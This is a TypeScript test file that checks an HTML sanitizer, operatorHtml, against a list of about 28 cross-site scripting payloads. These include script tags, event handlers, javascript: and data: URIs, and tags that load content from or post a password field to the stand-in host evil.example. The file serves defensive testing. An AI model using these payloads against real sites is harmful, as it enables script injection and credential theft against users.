import assert from 'node:assert/strict'
import { test } from 'node:test'
import { operatorHtml } from './operator-html.ts'

// From the public collections of ways around filters.
const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src=`javascript:alert(1)`>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<svg onload=alert(1)><circle/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<iframe src="//evil.example"></iframe>',
  '<object data="evil.swf"></object><embed src="evil.swf">',
  '<form action="//evil.example"><input name=password></form>',
  '<style>@import "//evil.example/x.css"</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href="//evil.example/">',
  '<body onload=alert(1)>x</body>',
  '<details open ontoggle=alert(1)>x</details>',
  '<<SCRIPT>alert(1);//<</SCRIPT>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<p id="root">x</p><p name="boot">y</p>',
]

test('nothing of a hostile text that could run, load, frame or send is left', () => {
  for (const html of HOSTILE) {
    const clean = operatorHtml(html)
    assert.doesNotMatch(
      clean,
      /<\/?(script|svg|math|iframe|object|embed|form|input|style|link|meta|base|body|template|noscript|details)/i,
      html,
    )
    assert.doesNotMatch(clean, /<[^>]*\s(on\w+|style|id|name)\s*=/i, html)
    assert.doesNotMatch(clean, /(href|src)="(?!https:|mailto:|tel:|\/(?!\/))/i, html)
  }
})

test('plain formatting, links and pictures stay as they were written', () => {
  const html = '<p>Read <strong>this</strong><br /><em>first</em></p><ul><li>one</li></ul>'
  assert.equal(operatorHtml(html), html)
  assert.equal(operatorHtml('<a href="https://example.org/a">x</a>'), '<a href="https://example.org/a" rel="noopener nofollow">x</a>')
  assert.equal(operatorHtml('<a href="/m/help">x</a>'), '<a href="/m/help" rel="noopener nofollow">x</a>')
})
